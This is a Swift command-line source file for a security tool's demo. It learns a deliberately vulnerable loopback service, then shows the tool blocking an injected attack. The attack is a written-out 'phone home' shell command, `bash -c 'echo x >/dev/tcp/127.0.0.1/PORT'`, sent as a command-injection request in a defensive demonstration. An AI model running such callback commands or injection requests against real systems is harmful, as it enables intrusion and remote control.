import ArgumentParser
import Foundation
import VigilAgent
import VigilCore
import VigilSensor

struct Demo: ParsableCommand {
    static let configuration = CommandConfiguration(
        abstract: "See Vigil learn a service, then catch and stop an attack on it (needs root).",
        discussion: """
        1. Starts a small TCP service, `acme-notes` (built with Vigil, a C program with a \
        command-injection flaw), on a loopback port, and learns it with `vigil learn` while \
        clients make normal requests; draws what it learned (`vigil map`) as map.svg.
        2. Switches to `vigil enforce` with the learned baseline. Normal requests go on, \
        and produce no finding.
        3. Attacks: a request makes the service spawn a shell that phones home \
        (`bash -c 'echo x >/dev/tcp/127.0.0.1/PORT'`). Vigil explains the deviation, the \
        risk score climbs the ladder, the action is taken, and the connection never arrives.

        Everything stays on this machine (loopback only) and in a temporary directory; \
        the findings are kept there as OCSF JSON lines.
        """
    )

    @Option(help: "Seconds of learning.")
    var learnSeconds: Int = 12

    @Option(help: ArgumentHelp("Keep the models and findings here instead of a temporary directory.", valueName: "DIR"))
    var keep: String?

    func validate() throws {
        if learnSeconds < 6 { throw ValidationError("--learn-seconds must be at least 6") }
    }

    func run() throws {
        guard geteuid() == 0 else {
            Diagnostics.error("the demo loads eBPF programs and needs root: run it with sudo")
            throw ExitCode.failure
        }
        let dir = keep ?? FileManager.default.temporaryDirectory.appendingPathComponent("vigil-demo-\(getpid())").path
        let models = dir + "/models"
        let findings = dir + "/findings.jsonl"
        try? FileManager.default.removeItem(atPath: models)
        try? FileManager.default.removeItem(atPath: findings)
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
        let service = DemoWorkload.program

        say("""
        \u{1B}[1mVigil demo\u{1B}[0m
        A small TCP service, \((service.path as NSString).lastPathComponent), runs on 127.0.0.1. Vigil first learns how it behaves, then
        enforces that baseline while the service is attacked.

        \u{1B}[1m1. Learning\u{1B}[0m (\(learnSeconds) s): the service answers normal requests (`GET hostname`).
        """)
        let learnThread = CommandThread(["learn", "--models", models, "--duration", String(learnSeconds),
                                         "--only", service.path, "--only", "/bin/bash", "--only", "/usr/bin/bash", "--only", "/usr/bin/head",
                                         "--bucket", "2", "--window", "2", "--min-observed", "4", "--save-interval", "4"])
        Thread.sleep(forTimeInterval: 1.5)
        let workload = try DemoWorkload.start(vulnerable: true)
        defer { workload.stop() }
        let learnEnd = Date().addingTimeInterval(Double(learnSeconds) - 3)
        var requests = 0
        while Date() < learnEnd {
            try workload.request("GET hostname")
            requests += 1
            Thread.sleep(forTimeInterval: 0.1)
        }
        learnThread.wait()
        let id = ProfileIdentity.resolve(path: service.path, argv: [service.path] + service.arguments).id
        let store = ProfileStore(directory: models)
        if let p = try? store.load(file: store.path(for: id)) {
            let r = p.stability()
            say("   learned \(p.syscalls.count) syscalls, \(p.ngrams.count) syscall sequences, listening port(s) "
                + p.listens.keys.map { String($0.port) }.joined(separator: ", ") + " from \(requests) requests; profile is \(r.state.rawValue)")
        } else {
            say("   (the service's profile was not saved; see the messages above)")
        }
        let mapFile = dir + "/map.svg"
        let map = FlowMap(profiles: store.loadAll().profiles)
        if (try? map.svg().write(toFile: mapFile, atomically: true, encoding: .utf8)) != nil {
            say("   learned flows (\(map.nodes.count) nodes, \(map.edges.count) flows) drawn in \(mapFile)   (vigil map --models \(models))")
        }

        // The attacker's listener: if the shell phones home, a connection arrives here.
        let phoneHome = try LoopbackCounter()
        say("""

        \u{1B}[1m2. Enforcing\u{1B}[0m the baseline. Normal requests first:
        """)
        // The service is the one workload enforced; learned for seconds, its profile is still
        // `learning`, which enforce holds at alert unless the policy opts it in.
        let policy = (models as NSString).deletingLastPathComponent + "/demo-policy.yaml"
        try "enforce-learning: [\(id)]\n".write(toFile: policy, atomically: false, encoding: .utf8)
        let enforceThread = CommandThread(["enforce", "--models", models, "--duration", "12", "--explain",
                                           "--workload", "exe:" + service.path, "--policy", policy, "--output", "file:" + findings])
        Thread.sleep(forTimeInterval: 2)
        for _ in 0..<3 { try workload.request("GET hostname") }
        Thread.sleep(forTimeInterval: 1.5)
        let normalFindings = Self.findings(in: findings, pid: workload.service.processIdentifier)
        say("   3 normal requests served: \(normalFindings == 0 ? "no finding" : "\(normalFindings) finding(s)") for the service.")
        say("""

        \u{1B}[1m3. Attack\u{1B}[0m: a request makes the service run
           bash -c 'echo x >/dev/tcp/127.0.0.1/\(phoneHome.port)'   (a shell phoning home)
        """)
        try workload.request("RUN bash -c 'echo x >/dev/tcp/127.0.0.1/\(phoneHome.port)'")
        enforceThread.wait()
        Thread.sleep(forTimeInterval: 0.2)
        let arrived = phoneHome.connections
        say("""

        \u{1B}[1mResult\u{1B}[0m: the attacker's listener received \(arrived) connection(s)\(arrived == 0 ? ": the shell never ran." : ".")
           The service is \(workload.service.isRunning ? "still running" : "gone (killed by Vigil)").
           Findings as OCSF Detection Finding (class_uid 2004) JSON lines: \(findings)
           Baseline: \(models)/\(id).json   (vigil profile show \(id) --models \(models))
        """)
    }

    static func findings(in file: String, pid: Int32) -> Int {
        guard let text = try? String(contentsOfFile: file, encoding: .utf8) else { return 0 }
        return text.split(separator: "\n").filter { $0.contains("\"class_uid\":2004") && $0.contains("\"pid\":\(pid),") }.count
    }

    private func say(_ s: String) { Console.line(s) }
}
